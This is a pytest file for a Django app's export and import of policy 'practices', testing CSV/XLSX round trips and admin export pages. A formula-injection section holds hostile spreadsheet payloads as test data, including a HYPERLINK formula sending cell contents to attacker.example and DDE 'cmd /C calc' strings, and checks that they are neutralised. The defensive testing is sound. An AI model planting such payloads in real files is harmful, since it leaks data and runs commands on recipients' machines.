"""Export to CSV and XLSX, then import back: nothing is lost."""

from datetime import timedelta
from decimal import Decimal
from html import unescape

import pytest
import tablib
from django.utils import timezone

from practices.models import KeyFigure, Partner, Practice
from practices.resources import PracticeResource
from tests.factories import make_fiche, make_lever, make_practice, make_sector, make_staff

pytestmark = pytest.mark.django_db

PUBLISHERS = "Responsables éditoriaux"


def snapshot():
    """Everything a practice holds that the spreadsheet carries, keyed by slug."""
    result = {}
    for p in Practice.objects.order_by("slug"):
        result[p.slug] = {
            **{
                field: getattr(p, field)
                for field in [
                    "title",
                    "summary",
                    "body",
                    "authority_type",
                    "authority_name",
                    "department_id",
                    "start_year",
                    "end_year",
                    "source_fiche_id",
                    "contact_name",
                    "contact_email",
                    "contact_url",
                    "success_conditions",
                    "watch_points",
                    "means",
                    "evidence_level",
                    "status",
                    "search_text",
                ]
            },
            "published_at": p.published_at and p.published_at.replace(microsecond=0),
            "levers": sorted(p.levers.values_list("slug", flat=True)),
            "sectors": sorted(p.sectors.values_list("slug", flat=True)),
            "partners": sorted(p.partners.values_list("slug", flat=True)),
            "figures": [
                (f.label, f.value, f.unit, f.period) for f in p.key_figures.order_by("position")
            ],
        }
    return result


@pytest.fixture
def practices():
    levers = [make_lever(), make_lever()]
    sector = make_sector()
    partner = Partner.objects.create(name="CRESS Hauts-de-France", slug="cress-hdf")
    fiche = make_fiche()
    published = make_practice(
        levers=levers,
        sectors=[sector],
        partners=[partner],
        figures=[("salariés en insertion", 913), ("montant", Decimal("1500000.50"))],
        department="2A",
        body="## Contexte\n\nUn texte, avec « guillemets », des accents et\nplusieurs lignes.",
        end_year=2023,
        source_fiche=fiche,
        contact_name="Direction de la commande publique",
        contact_email="achats@example.org",
        contact_url="https://example.org/contact",
        success_conditions="- Un **portage** clair ;\n- des partenaires, « engagés ».",
        watch_points="Le premier appel d'offres a été infructueux.",
        means="2 ETP ; 30 000 € par an.",
        evidence_level=Practice.EvidenceLevel.EVALUATED,
        published_at=timezone.now().replace(microsecond=0) - timedelta(days=3),
    )
    KeyFigure.objects.filter(practice=published, label="montant").update(
        unit="€", period="2018 – 2020"
    )
    published.refresh_search_text()
    make_practice(
        levers=levers[:1],
        status=Practice.Status.DRAFT,
        published_at=None,
        department="974",
        authority_type=Practice.AuthorityType.COMMUNE,
    )
    make_practice(
        levers=levers[1:],
        status=Practice.Status.PUBLISHED,
        published_at=timezone.now().replace(microsecond=0) + timedelta(days=10),
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_loses_nothing(practices, fmt):
    before = snapshot()
    exported = PracticeResource().export().export(fmt)
    Practice.objects.all().delete()
    dataset = tablib.Dataset().load(exported, format=fmt)
    result = PracticeResource().import_data(dataset, user=make_staff(PUBLISHERS))
    assert not result.has_errors(), result.row_errors()
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    assert snapshot() == before


def test_reimporting_an_export_changes_nothing(practices):
    before = snapshot()
    exported = PracticeResource().export().export("csv")
    dataset = tablib.Dataset().load(exported, format="csv")
    PracticeResource().import_data(dataset, user=make_staff("Éditeurs"))
    assert Practice.objects.count() == 3
    assert snapshot() == before


def test_admin_export_downloads_a_spreadsheet(client, practices):
    client.force_login(make_staff("Éditeurs"))
    assert client.get("/admin/practices/practice/export/").status_code == 200
    fields = [f"practiceresource_{name}" for name in PracticeResource._meta.fields]
    response = client.post(
        "/admin/practices/practice/export/",
        {"format": "0", "resource": "0", **dict.fromkeys(fields, "on")},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = response.content.decode()
    assert content.splitlines()[0].startswith("slug,")
    assert "departement" in content.splitlines()[0]
    assert "salariés en insertion | 913" in content


# Formula injection: visitors' text must not run in an editor's spreadsheet ---------------

HOSTILE = {
    "title": '=HYPERLINK("https://attacker.example/?d="&C2,"Ouvrir")',
    "authority_name": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "body": "- une liste Markdown\n- qui commence par un tiret",
    "contact_name": "\tTabulation",
    "contact_url": "",
}
FIGURE_LABEL = "-2+3+cmd(' /C calc')"  # no « | »: it separates a figure's parts


@pytest.fixture
def hostile_proposal(db):
    practice = make_practice(
        levers=[make_lever()],
        status=Practice.Status.PROPOSED,
        published_at=None,
        figures=[(FIGURE_LABEL, 3)],
        **HOSTILE,
    )
    # A text that already starts with the quote must survive the round trip too.
    make_practice(levers=[make_lever()], title="'=déjà protégé", summary="'simple citation")
    return practice


def admin_export(client, fmt_index):
    client.force_login(make_staff("Éditeurs"))
    fields = [f"practiceresource_{name}" for name in PracticeResource._meta.fields]
    response = client.post(
        "/admin/practices/practice/export/",
        {"format": str(fmt_index), "resource": "0", **dict.fromkeys(fields, "on")},
    )
    assert response.status_code == 200
    return response.content


def test_admin_csv_export_quotes_every_cell_that_would_run_as_a_formula(client, hostile_proposal):
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(admin_export(client, 0).decode("utf-8-sig"))))
    row = next(r for r in rows if r["slug"] == hostile_proposal.slug)
    for field, value in HOSTILE.items():
        if value:
            assert row[field] == "'" + value, field
    assert row["chiffres_cles"].startswith("'" + FIGURE_LABEL)
    other = next(r for r in rows if r["slug"] != hostile_proposal.slug)
    assert other["title"] == "''=déjà protégé"
    assert other["summary"] == "'simple citation"


def test_admin_xlsx_export_holds_text_cells_and_no_formula(client, hostile_proposal):
    import io

    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, 1))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert "'" + HOSTILE["title"] in texts
    assert "'" + HOSTILE["authority_name"] in texts


@pytest.mark.parametrize("fmt_index", [0, 1])
def test_a_control_character_pasted_in_a_text_is_exported_as_a_space(client, fmt_index):
    import io

    import openpyxl

    make_practice(levers=[make_lever()], summary="Une ligne\x0bpuis une autre\x0c.")

    exported = admin_export(client, fmt_index)
    if fmt_index:
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        texts = {cell.value for row in sheet.iter_rows() for cell in row}
    else:
        texts = exported.decode("utf-8-sig")
    assert "Une ligne puis une autre ." in texts


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_text_survives_an_export_import_round_trip(hostile_proposal, fmt):
    before = snapshot()
    exported = PracticeResource().export().export(fmt)
    dataset = tablib.Dataset().load(exported, format=fmt)
    result = PracticeResource().import_data(dataset, user=make_staff(PUBLISHERS))
    assert not result.has_errors(), result.row_errors()
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    assert snapshot() == before


def test_the_export_page_lists_fields_by_their_french_names(client):
    client.force_login(make_staff("Éditeurs"))
    page = unescape(client.get("/admin/practices/practice/export/").content.decode())
    assert "Tout sélectionner" in page
    assert "Type de collectivité (type_collectivite)" in page
    assert "Chiffres clés (chiffres_cles)" in page
    assert "Authority Type" not in page and "Select all" not in page
    assert '<label for="select-all-toggle">Tout sélectionner</label>' in page


@pytest.mark.parametrize("query", ["format=csv", "levers__id__exact=abc"])
def test_an_export_address_with_a_filter_the_list_does_not_know_goes_back_to_the_list(
    editor_client, query
):
    # The export reads the list's filters from its address: an unknown one was a 500.
    make_practice(levers=[make_lever()])
    url = f"/admin/practices/practice/export/?{query}"
    for response in (editor_client.get(url), editor_client.post(url, {"format": "0"})):
        assert response.status_code == 302
        assert response["Location"] == "/admin/practices/practice/?e=1"
